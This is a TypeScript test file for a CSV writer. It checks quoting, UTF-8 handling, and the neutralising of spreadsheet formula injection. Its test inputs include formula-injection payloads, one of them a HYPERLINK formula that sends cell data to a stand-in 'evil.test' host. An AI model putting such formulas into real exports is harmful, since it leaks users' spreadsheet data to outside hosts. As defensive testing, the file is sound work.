/** Written CSV reads back unchanged, and no spreadsheet takes any cell for a formula. */
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvHead, csvLine } from './csv.ts'

/** One line as RFC 4180 has it. */
function readLine(line: string): string[] {
  expect(line.endsWith('\r\n')).toBe(true)
  const cells: string[] = []
  let rest = `${line.slice(0, -2)},`
  while (rest !== '') {
    const cell = /^"((?:[^"]|"")*)",/.exec(rest)!
    cells.push(cell[1]!.replaceAll('""', '"'))
    rest = rest.slice(cell[0].length)
  }
  return cells
}

test('begins with a byte order mark, so that spreadsheets read it as UTF-8', () => {
  expect(csvHead(['name', 'email'])).toBe('\uFEFFname,email\r\n')
})

describe('a cell', () => {
  test.each([
    ['plain', 'Ana Bell', '"Ana Bell"\r\n'],
    ['empty', '', '""\r\n'],
    ['with a comma', 'Bell, Ana', '"Bell, Ana"\r\n'],
    ['with quotation marks', 'the "best"', '"the ""best"""\r\n'],
    ['with lines', 'a\nb\r\nc', '"a\nb\r\nc"\r\n'],
    ['in other letters', '北京 ñ 😀', '"北京 ñ 😀"\r\n'],
    ['with signs inside', 'a=b+c-d@e', '"a=b+c-d@e"\r\n'],
  ])('%s is written as it is', (_what, text, line) => {
    expect(csvLine([text])).toBe(line)
  })

  test.each([
    ...['=1+1', '+49 30 1234', '-1', '@SUM(A1)', '＝1', '＋1', '－1', '＠a', ' =1', '\u00a0=1', '\n=1', '\t=1'],
    ...['\ttext', '\rtext', '\ntext', '=HYPERLINK("http://evil.test?"&A1)', '\u3000@a'],
  ])('%j is text and no formula', (text) => {
    expect(readLine(csvLine([text]))).toEqual([`'${text}`])
  })
})

test('any cells come back as they were, but for the apostrophe before what looks like a formula', () => {
  const cell = fc.oneof(
    fc.string(),
    fc.constantFrom('"', '""', ',', '\r\n', '=', "'", ' = '),
    fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', ' '), fc.string()).map((parts) => parts.join('')),
  )
  fc.assert(
    fc.property(fc.array(cell, { minLength: 1, maxLength: 6 }), (cells) => {
      const read = readLine(csvLine(cells))
      expect(read.map((text, at) => (text === `'${cells[at]}` ? cells[at] : text))).toEqual(cells)
      expect(read.filter((text) => /^\s*[=+\-@]/.test(text))).toEqual([])
    }),
  )
})
